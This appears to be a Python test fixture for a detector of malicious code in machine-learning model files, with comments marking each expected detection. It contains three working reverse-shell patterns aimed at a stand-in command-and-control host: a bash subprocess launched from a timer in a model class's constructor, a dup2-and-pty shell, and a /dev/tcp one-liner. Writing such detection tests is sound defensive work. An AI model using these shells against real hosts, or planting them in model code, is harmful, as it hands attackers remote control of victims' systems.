# Reverse shells in the shapes malicious model code uses: a helper started by a timer callback,
# the classic dup2 + pty, and a shell one-liner. Inert: never run; hosts are .invalid.
import os
import pty
import socket
import subprocess
import threading


def _serve(host, port):
    conn = socket.create_connection((host, port))
    subprocess.Popen(["/bin/bash", "-i"], stdin=conn, stdout=conn, stderr=conn)  # expect: BH101


class Model:
    def __init__(self):
        threading.Timer(5, self.warmup).start()

    def warmup(self):
        _serve("c2.example.invalid", 4444)


def classic():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("c2.example.invalid", 4444))
    os.dup2(s.fileno(), 0)  # expect: BH101
    os.dup2(s.fileno(), 1)  # expect: BH101
    pty.spawn("/bin/sh")


def one_liner():
    os.system("bash -i >& /dev/tcp/c2.example.invalid/4444 0>&1")  # expect: BH101
